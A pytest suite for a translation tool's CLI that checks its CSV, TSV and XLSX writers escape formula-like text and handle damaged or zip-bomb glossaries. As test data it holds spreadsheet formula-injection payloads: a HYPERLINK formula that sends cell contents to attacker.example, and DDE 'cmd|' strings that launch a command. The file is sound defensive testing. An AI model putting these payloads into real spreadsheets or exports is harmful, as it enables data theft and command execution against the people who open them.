"""Spreadsheets hexaglot writes never run document text as a formula, never refuse a
control character, and a damaged XLSX glossary is one line on stderr.

Every writer is driven through the CLI with text that starts like a formula
(``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)``, ``-2+3...``): no XLSX cell may
be a formula (openpyxl's data type ``f``), and no CSV/TSV cell may start with a
formula character.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st
from openpyxl import Workbook, load_workbook

from aligner.writers.cells import FORMULA_START, escape_cell, starts_formula, unescape_cell, xlsx_text
from hexaglot.cli import cli
from qa_rules.glossary import read_glossary

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Cliquez ici")'
PAYLOADS = (
    f"{HYPERLINK} la coopération internationale contre le terrorisme",
    "+cmd|' /C calc'!A0 la coopération internationale contre le terrorisme",
    "@SUM(1+1)*cmd|' /C calc'!A0 la coopération internationale contre le terrorisme",
    "-2+3+cmd|' /C calc'!A0 la coopération internationale contre le terrorisme",
)
PAYLOADS_EN = (
    f"{HYPERLINK} international cooperation against terrorism",
    "+cmd|' /C calc'!A0 international cooperation against terrorism",
    "@SUM(1+1)*cmd|' /C calc'!A0 international cooperation against terrorism",
    "-2+3+cmd|' /C calc'!A0 international cooperation against terrorism",
)
ASCII_START = "=+-@"


def _run(*args: str):
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code in (0, 1, 2), (result.exit_code, result.output)
    assert "Traceback" not in result.output
    return result


def _pair(tmp_path: Path, fr=PAYLOADS, en=PAYLOADS_EN) -> tuple[str, str]:
    source, target = tmp_path / "doc.fr", tmp_path / "doc.en"
    source.write_text("\n".join(fr) + "\n", encoding="utf-8")
    target.write_text("\n".join(en) + "\n", encoding="utf-8")
    return str(source), str(target)


def _csv_cells(path: Path, delimiter: str = ",") -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    rows = [r for r in csv.reader(io.StringIO(text), delimiter=delimiter) if r and not r[0].startswith("#")]
    return [cell for row in rows for cell in row]


def _assert_csv_safe(cells: list[str], payloads=PAYLOADS) -> None:
    assert not [c for c in cells if c[:1] in FORMULA_START and starts_formula(c)]
    # every payload is there, escaped, and unescapes back to itself
    for text in payloads:
        assert "'" + text in cells or any(c.startswith("'" + text[:20]) for c in cells), text
    assert any(unescape_cell(c) == payloads[0] for c in cells) or any(
        unescape_cell(c).startswith(payloads[0][:30]) for c in cells)


def _xlsx_cells(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_safe(cells: list, payloads=PAYLOADS) -> None:
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c for c in cells if isinstance(c.value, str)]
    starting = [c for c in texts if c.value[:1] in ASCII_START and starts_formula(c.value)]
    assert starting, "the payloads should be in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in starting)
    assert any(c.value.startswith(payloads[0][:30]) for c in texts)  # written as it is, no apostrophe


# --- the escaping convention -------------------------------------------------------------------

@pytest.mark.parametrize("text,escaped", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("'=1+1", "''=1+1"),  # text that already looks escaped gets one more apostrophe
    ("-5 % des crédits", "'-5 % des crédits"),
    ("-5", "-5"), ("+1", "+1"), ("-5 %", "-5 %"), ("-0,25", "-0,25"),  # plain numbers stay numbers
    ("Prie le Secrétaire général", "Prie le Secrétaire général"), ("'quoted'", "'quoted'"), ("", ""),
])
def test_escape_cell(text, escaped):
    assert escape_cell(text) == escaped
    assert unescape_cell(escaped) == text


def test_numbers_are_never_escaped():
    assert escape_cell(-5) == -5 and escape_cell(-0.5) == -0.5


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\uff1d5 %,ab"), max_size=8) | st.text(max_size=20))
def test_unescape_undoes_escape(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not starts_formula(escaped) or escaped.startswith("'")


def test_xlsx_text_replaces_what_a_workbook_refuses():
    assert xlsx_text("page\fbreak\x0bline\x01x\ty\nz") == "page break line\ufffdx\ty\nz"


# --- align -o .csv / .tsv / .xlsx --------------------------------------------------------------

@pytest.mark.parametrize("ext,delimiter", [("csv", ","), ("tsv", "\t")])
def test_align_table_escapes_formulas(tmp_path, ext, delimiter):
    source, target = _pair(tmp_path)
    out = tmp_path / f"aligned.{ext}"
    assert _run("align", source, target, "-o", str(out)).exit_code == 0
    _assert_csv_safe(_csv_cells(out, delimiter))


def test_align_xlsx_writes_text_not_formulas(tmp_path):
    source, target = _pair(tmp_path)
    out = tmp_path / "aligned.xlsx"
    assert _run("align", source, target, "-o", str(out)).exit_code == 0
    cells = _xlsx_cells(out)
    _assert_xlsx_safe(cells)
    assert {c.value for c in cells} >= set(PAYLOADS) | set(PAYLOADS_EN)  # lossless


def test_align_xlsx_survives_control_characters(tmp_path):
    source, target = _pair(tmp_path, ("Le Conseil\fdécide de la coopération\x0binternationale\x01.",) + PAYLOADS,
                           ("The Council\fdecides on international\x0bcooperation\x01.",) + PAYLOADS_EN)
    out = tmp_path / "aligned.xlsx"
    result = _run("align", source, target, "-o", str(out))
    assert result.exit_code == 0, result.output
    values = [c.value for c in _xlsx_cells(out)]
    assert "Le Conseil décide de la coopération internationale\ufffd." in values


# --- check --format csv / xlsx -----------------------------------------------------------------

def _untranslated_pair(tmp_path):
    # an untranslated line is a finding whose "found" column is the document's text
    return _pair(tmp_path, PAYLOADS, PAYLOADS)


def test_check_csv_escapes_formulas(tmp_path):
    source, target = _untranslated_pair(tmp_path)
    out = tmp_path / "report.csv"
    result = _run("check", source, target, "--format", "csv", "-o", str(out))
    assert result.exit_code == 1 and out.exists()
    cells = _csv_cells(out)
    assert not [c for c in cells if starts_formula(c) and not c.startswith("'")]
    assert any(c.startswith("'" + HYPERLINK[:20]) for c in cells)


def test_check_xlsx_writes_text_not_formulas(tmp_path):
    source, target = _untranslated_pair(tmp_path)
    out = tmp_path / "report.xlsx"
    assert _run("check", source, target, "--format", "xlsx", "-o", str(out)).exit_code == 1
    _assert_xlsx_safe(_xlsx_cells(out))


# --- glossary candidates -----------------------------------------------------------------------

def test_candidates_csv_escapes_formulas(tmp_path):
    source, target = _pair(tmp_path)
    out = tmp_path / "candidates.csv"
    assert _run("glossary", "candidates", source, target, "--no-default-glossaries", "-o", str(out)).exit_code == 0
    cells = _csv_cells(out)
    assert not [c for c in cells if starts_formula(c) and not c.startswith("'")]
    assert "'" + PAYLOADS[0] in cells


def test_candidates_xlsx_writes_text_not_formulas(tmp_path):
    source, target = _pair(tmp_path, ("Le Conseil\fsalue\x0bla coopération internationale contre le terrorisme",)
                           + PAYLOADS, ("The Council\fwelcomes\x0binternational cooperation against terrorism",)
                           + PAYLOADS_EN)
    out = tmp_path / "candidates.xlsx"
    result = _run("glossary", "candidates", source, target, "--no-default-glossaries", "-o", str(out))
    assert result.exit_code == 0, result.output
    cells = _xlsx_cells(out)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "Le Conseil salue la coopération internationale contre le terrorisme" in {c.value for c in cells}


# --- glossary convert --------------------------------------------------------------------------

GLOSSARY_ROWS = [
    ["concept_id", "lang", "term", "term_note"],
    ["c1", "en", HYPERLINK, "+cmd|' /C calc'!A0"],
    ["c1", "fr", "@SUM(1+1)", "-2+3"],
    ["c2", "en", "'=typed with an apostrophe", "-5 %"],
    ["c2", "fr", "-5 % des crédits", "plain note"],
]


def _glossary_csv(tmp_path: Path, rows=GLOSSARY_ROWS) -> Path:
    path = tmp_path / "terms.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        # written as a spreadsheet user would type it, without any apostrophe
        csv.writer(handle, lineterminator="\n").writerows(rows)
    return path


def _texts(glossary) -> list[tuple[str, str, str, str]]:
    return [(c.id, t.lang, t.text, t.note) for c in glossary.concepts for t in c.terms]


def test_convert_csv_xlsx_csv_is_safe_and_lossless(tmp_path):
    original = _glossary_csv(tmp_path)
    xlsx_path, csv_path = tmp_path / "terms.xlsx", tmp_path / "again.csv"
    assert _run("glossary", "convert", str(original), str(xlsx_path)).exit_code == 0
    cells = _xlsx_cells(xlsx_path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # the apostrophe a user types before a formula character is Excel's "this is text", not text
    assert {HYPERLINK, "@SUM(1+1)", "-2+3", "=typed with an apostrophe"} <= {c.value for c in cells}
    assert all(c.quotePrefix for c in cells if c.value in (HYPERLINK, "+cmd|' /C calc'!A0", "-5 % des crédits"))

    assert _run("glossary", "convert", str(xlsx_path), str(csv_path)).exit_code == 0
    written = _csv_cells(csv_path)
    assert not [c for c in written if starts_formula(c) and not c.startswith("'")]
    assert "'" + HYPERLINK in written and "-5 %" in written

    expected = [(r[0], r[1], unescape_cell(r[2]), r[3]) for r in GLOSSARY_ROWS[1:]]
    assert _texts(read_glossary(original)) == expected
    assert _texts(read_glossary(xlsx_path)) == expected
    assert _texts(read_glossary(csv_path)) == expected


def test_convert_keeps_a_text_that_starts_with_an_apostrophe(tmp_path):
    book = Workbook()
    for row in (["concept_id", "lang", "term"], ["c1", "en", "'=quoted"], ["c1", "fr", "'-cité'"]):
        book.active.append(row)
    xlsx_path, csv_path, back = tmp_path / "terms.xlsx", tmp_path / "terms.csv", tmp_path / "back.xlsx"
    book.save(xlsx_path)
    assert _run("glossary", "convert", str(xlsx_path), str(csv_path)).exit_code == 0
    assert {"''=quoted", "''-cité'"} <= set(_csv_cells(csv_path))
    assert _run("glossary", "convert", str(csv_path), str(back)).exit_code == 0
    for path in (csv_path, back):
        assert [t.text for c in read_glossary(path).concepts for t in c.terms] == ["'=quoted", "'-cité'"]


def test_convert_to_xlsx_survives_control_characters(tmp_path):
    original = _glossary_csv(tmp_path, [["concept_id", "lang", "term", "term_note"],
                                        ["c1", "en", "money laundering", "from Word:\x0bline two\x02"]])
    out = tmp_path / "terms.xlsx"
    result = _run("glossary", "convert", str(original), str(out))
    assert result.exit_code == 0, result.output
    assert _texts(read_glossary(out)) == [("c1", "en", "money laundering", "from Word: line two\ufffd")]


@pytest.mark.parametrize("extension", ("xlsx", "tbx"))
def test_convert_survives_characters_xml_cannot_hold(tmp_path, extension):
    """A vertical tab (Word's line break), U+FFFE and U+FFFF in a CSV glossary stopped the
    TBX writer, and the last two the XLSX one, with an internal error: XML cannot hold them.
    Both writers replace them alike (a space, U+FFFD)."""
    original = _glossary_csv(tmp_path, [["concept_id", "lang", "term", "term_note"],
                                        ["c1", "en", "money\ufffelaundering", "from Word:\x0bline two\uffff"]])
    out = tmp_path / f"terms.{extension}"
    result = _run("glossary", "convert", str(original), str(out))
    assert result.exit_code == 0, result.output
    assert _texts(read_glossary(out)) == [("c1", "en", "money\ufffdlaundering", "from Word: line two\ufffd")]


# --- a damaged XLSX glossary is one line ------------------------------------------------------

def _good_xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    for row in (["concept_id", "lang", "term"], ["c1", "en", "money laundering"], ["c1", "fr", "blanchiment"]):
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _replace_member(data: bytes, name: str, content: bytes | None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != name:
                dst.writestr(info.filename, src.read(info.filename))
            elif content is not None:
                dst.writestr(info.filename, content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
DAMAGED = {
    "not-a-zip": lambda good: b"PK\x03\x04 this is not a zip package\nsecond line\n",
    "truncated": lambda good: good[: len(good) // 2],
    "no-workbook": lambda good: _replace_member(good, "xl/workbook.xml", None),
    "no-sheet": lambda good: _replace_member(good, SHEET, None),
    "sheet-not-xml": lambda good: _replace_member(good, SHEET, b"<worksheet><sheetData><row><c>SECRET\n"),
    "workbook-not-xml": lambda good: _replace_member(good, "xl/workbook.xml", b"<workbook>\nSECRET"),
    "bad-shared-string": lambda good: _replace_member(
        good, SHEET,
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="s"><v>999</v></c></row></sheetData></worksheet>'),
    "bad-number": lambda good: _replace_member(
        good, SHEET,
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="n"><v>SECRET</v></c></row></sheetData></worksheet>'),
    "bad-cell-reference": lambda good: _replace_member(
        good, SHEET,
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="SECRET" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'),
}


@pytest.mark.parametrize("kind", sorted(DAMAGED))
def test_damaged_xlsx_glossary_is_one_line(tmp_path, kind):
    path = tmp_path / "terms.xlsx"
    path.write_bytes(DAMAGED[kind](_good_xlsx()))
    result = CliRunner().invoke(cli, ["glossary", "validate", str(path)])
    assert result.exit_code == 2, (result.exit_code, result.output)
    message = result.output.strip()
    assert "Traceback" not in message and "\n" not in message
    assert str(path) in message and "SECRET" not in message


def test_xlsx_glossary_zip_bomb_is_refused_before_unpacking(tmp_path):
    data = _good_xlsx()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        dst.writestr("xl/media/padding.bin", bytes(4 * 1024 * 1024))  # packs about 1000 times
    path = tmp_path / "terms.xlsx"
    path.write_bytes(out.getvalue())
    result = CliRunner().invoke(cli, ["glossary", "validate", str(path)])
    assert result.exit_code == 2 and str(path) in result.output and "\n" not in result.output.strip()
    assert "zip bomb" in result.output


def test_good_xlsx_glossary_reads(tmp_path):
    path = tmp_path / "terms.xlsx"
    path.write_bytes(_good_xlsx())
    assert _run("glossary", "validate", str(path)).exit_code == 0
